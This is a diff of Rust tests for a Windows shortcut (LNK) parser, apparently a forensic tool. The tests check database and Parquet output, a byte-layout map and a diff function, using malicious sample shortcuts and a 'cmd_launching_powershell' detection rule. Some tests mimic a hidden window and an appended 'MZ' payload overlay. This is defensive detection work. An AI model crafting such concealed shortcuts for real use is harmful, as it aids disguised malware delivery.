+            JOIN findings f ON f.lnk_file_id = l.id AND f.source = 'rule'",
+            [],
+            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)),
+        )
+        .unwrap();
+    assert_eq!(target, "C:\\Windows\\System32\\cmd.exe");
+    assert_eq!(machine_id, "pc");
+    assert_eq!(rule, "cmd_launching_powershell");
+    let mft_entry: i64 = connection
+        .query_row(
+            "SELECT mft_entry FROM shell_items WHERE lnk_file_id = 1 AND name = 'cmd.exe'",
+            [],
+            |row| row.get(0),
+        )
+        .unwrap();
+    assert_eq!(mft_entry, 42117);
+}
+
+#[cfg(feature = "sqlite")]
+#[test]
+fn test_sqlite_writer_rewrite_and_batches() {
+    use lnk_parser::sqlite::{SqliteWriter, COMMIT_INTERVAL};
+    use rusqlite::Connection;
+
+    let db_path = std::env::temp_dir().join(format!("lnk_parser_test_{}.db", std::process::id()));
+    let _ = std::fs::remove_file(&db_path);
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    let count = |connection: &Connection, sql: &str| -> i64 {
+        connection.query_row(sql, [], |row| row.get(0)).unwrap()
+    };
+
+    // writing the same file again replaces it and its rows
+    for _ in 0..2 {
+        let mut writer = SqliteWriter::create(&db_path).unwrap();
+        writer.write(&parsed, &parsed.analyze()).unwrap();
+        writer.write(&parsed, &parsed.analyze()).unwrap();
+        writer.finish().unwrap();
+    }
+    let connection = Connection::open(&db_path).unwrap();
+    assert_eq!(count(&connection, "SELECT COUNT(*) FROM lnk_files"), 1);
+    assert_eq!(count(&connection, "SELECT COUNT(*) FROM targets"), 1);
+    assert_eq!(count(&connection, "SELECT COUNT(*) FROM findings"), 2);
+    drop(connection);
+
+    // the files without a path are not replaced, the committed batches are kept without `finish`
+    let parsed = LNKParser::from_buffer(&std::fs::read(&path).unwrap()).unwrap();
+    let mut writer = SqliteWriter::create(&db_path).unwrap();
+    for _ in 0..=COMMIT_INTERVAL {
+        writer.write(&parsed, &[]).unwrap();
+    }
+    drop(writer);
+    let connection = Connection::open(&db_path).unwrap();
+    assert_eq!(
+        count(
+            &connection,
+            "SELECT COUNT(*) FROM lnk_files WHERE full_path IS NULL"
+        ),
+        COMMIT_INTERVAL as i64
+    );
+    drop(connection);
+    std::fs::remove_file(&db_path).unwrap();
+}
+
+#[cfg(feature = "parquet")]
+#[test]
+fn test_parquet_writer() {
+    use arrow_array::{
+        cast::AsArray,
+        types::{TimestampMicrosecondType, UInt64Type},
+        Array,
+    };
+    use lnk_parser::parquet::ParquetWriter;
+    use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
+
+    // unique per process, the tests could run concurrently
+    let output_path = std::env::temp_dir().join(format!(
+        "lnk_parser_test_parquet_writer_{}.parquet",
+        std::process::id()
+    ));
+    let file = std::fs::File::create(&output_path).unwrap();
+    let mut writer = ParquetWriter::new(file).unwrap();
+    let path = ["samples", "mal", "exec_cmd_powershell.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    writer
+        .write(
+            &parsed,
+            Some(&parsed.analyze()),
+            Some(&["cmd_launching_powershell"]),
+        )
+        .unwrap();
+    let path = ["samples", "WIN10", "1607_14393", "manual.lnk"]
+        .iter()
+        .collect::<PathBuf>();
+    let parsed = LNKParser::from_path(path.to_str().unwrap()).unwrap();
+    writer.write(&parsed, None, None).unwrap();
+    writer.finish().unwrap();
+
+    let file = std::fs::File::open(&output_path).unwrap();
+    let batches = ParquetRecordBatchReaderBuilder::try_new(file)
+        .unwrap()
+        .build()
+        .unwrap()
+        .collect::<Result<Vec<_>, _>>()
+        .unwrap();
+    std::fs::remove_file(&output_path).unwrap();
+    assert_eq!(batches.len(), 1);
+    let batch = &batches[0];
+    assert_eq!(batch.num_rows(), 2);
+    assert_eq!(batch.schema(), ParquetWriter::<std::fs::File>::schema());
+    let schema = batch.schema();
+    let volume_droid_clock_sequence = schema.field_with_name("volume_droid_clock_sequence");
+    assert_eq!(
+        volume_droid_clock_sequence.unwrap().data_type(),
+        &arrow_schema::DataType::UInt16
+    );
+    assert!(!schema
+        .field_with_name("show_command")
+        .unwrap()
+        .is_nullable());
+
+    let target_full_path = batch
+        .column_by_name("target_full_path")
+        .unwrap()
+        .as_string::<i32>();
+    assert_eq!(target_full_path.value(0), "C:\\Windows\\System32\\cmd.exe");
+    let target_size = batch
+        .column_by_name("target_size")
+        .unwrap()
+        .as_primitive::<UInt64Type>();
+    assert_eq!(target_size.value(0), 331776);
+    let target_creation_time = batch
+        .column_by_name("target_creation_time")
+        .unwrap()
+        .as_primitive::<TimestampMicrosecondType>();
+    assert_eq!(target_creation_time.value(0), 1622894712279970);
+    let show_command = batch
+        .column_by_name("show_command")
+        .unwrap()
+        .as_string::<i32>();
+    assert_eq!(show_command.value(0), "SHOWNORMAL");
+
+    let link_flags = batch.column_by_name("link_flags").unwrap().as_list::<i32>();
+    assert!(link_flags
+        .value(0)
+        .as_string::<i32>()
+        .iter()
+        .any(|flag| flag == Some("HasArguments")));
+    let findings = batch.column_by_name("findings").unwrap().as_list::<i32>();
+    assert_eq!(findings.value(0).len(), 2);
+    assert!(findings.is_null(1));
+    let rule_matches = batch
+        .column_by_name("rule_matches")
+        .unwrap()
+        .as_list::<i32>();
+    assert_eq!(
+        rule_matches.value(0).as_string::<i32>().value(0),
+        "cmd_launching_powershell"
+    );
+}
+
+#[test]
+fn test_layout() {
+    let mut data = std::fs::read(sample_path(&["mal", "exec_cmd_powershell.lnk"])).unwrap();
+    data.extend_from_slice(b"MZ\x90\x00payload");
+    let parsed = LNKParser::from_buffer(&data).unwrap();
+    let regions = parsed.layout();
+    let names = regions
+        .iter()
+        .map(|r| r.name.as_str())
+        .collect::<Vec<&str>>();
+    assert_eq!(
+        names,
+        vec![
+            "ShellLinkHeader",
+            "LinkTargetIDList",
+            "LinkInfo",
+            "RelativePath",
+            "WorkingDir",
+            "CommandLineArguments",
+            "ExtraData",
+            "Overlay"
+        ]
+    );
+    // the structures cover the whole data without gaps
+    let mut offset = 0;
+    for region in &regions {
+        assert_eq!(region.offset, offset, "{}", region.name);
+        offset += region.size;
+    }
+    assert_eq!(offset, data.len() as u64);
+    assert_eq!(regions[7].bytes(&data), b"MZ\x90\x00payload");
+
+    let header = &regions[0];
+    assert_eq!(header.children[2].name, "LinkFlags");
+    assert_eq!(header.children[2].offset, 0x14);
+    assert!(header.children[2].value.contains("HasArguments"));
+    let shell_item = &regions[1].children[2];
+    assert_eq!(shell_item.name, "ShellItem[1]");
+    assert_eq!(shell_item.value, "volume 'C:\\'");
+    let local_base_path = regions[2]
+        .children
+        .iter()
+        .find(|r| r.name == "LocalBasePath")
+        .unwrap();
+    assert_eq!(
+        local_base_path.bytes(&data),
+        b"C:\\Windows\\System32\\cmd.exe\0"
+    );
+    let tracker = &regions[6].children[2];
+    assert_eq!(tracker.name, "TrackerDataBlock");
+    let machine_id = tracker
+        .children
+        .iter()
+        .find(|r| r.name == "MachineID")
+        .unwrap();
+    assert_eq!(machine_id.value, "pc");
+    assert_eq!(&machine_id.bytes(&data)[..3], b"pc\0");
+}
+
+#[test]
+fn test_diff() {
+    use lnk_parser::diff::{diff, ChangeKind, Difference};
+
+    let old = sample(&["mal", "exec_cmd_powershell.lnk"]);
+    assert!(diff(&old, &old).is_empty());
+
+    let new = sample(&["mal", "exec_cmd_powershell_with_shortcut.lnk"]);
+    let differences = diff(&old, &new);
+    assert_eq!(
+        differences,
+        vec![
+            Difference {
+                path: "shell_link_header.atime".to_string(),
+                kind: ChangeKind::Changed,
+                old: Some("2024-12-29T18:35:20Z".to_string()),
+                new: Some("2024-12-29T18:36:54Z".to_string()),
+            },
+            Difference {
+                path: "shell_link_header.hot_key".to_string(),
+                kind: ChangeKind::Added,
+                old: None,
+                new: Some("SHIFT + CTRL + ALT + K".to_string()),
+            },
+        ]
+    );
+    assert_eq!(
+        differences[0].to_string(),
+        "~ shell_link_header.atime: 2024-12-29T18:35:20Z -> 2024-12-29T18:36:54Z"
+    );
+
+    // A hidden window and an appended payload
+    let mut data = std::fs::read(sample_path(&[
+        "mal",
+        "exec_cmd_powershell_with_shortcut.lnk",
+    ]))
+    .unwrap();
+    data[0x3C] = 0;
+    data.extend_from_slice(b"payload");
+    let modified = LNKParser::from_buffer(&data).unwrap();
+    let differences = diff(&new, &modified)
+        .into_iter()
+        .map(|d| d.to_string())
+        .collect::<Vec<String>>();
+    assert_eq!(
+        differences,
+        vec![
+            "~ overlay_size: 0 -> 7",
+            "~ shell_link_header.show_command: SHOWNORMAL -> HIDE",
+        ]
+    );
+}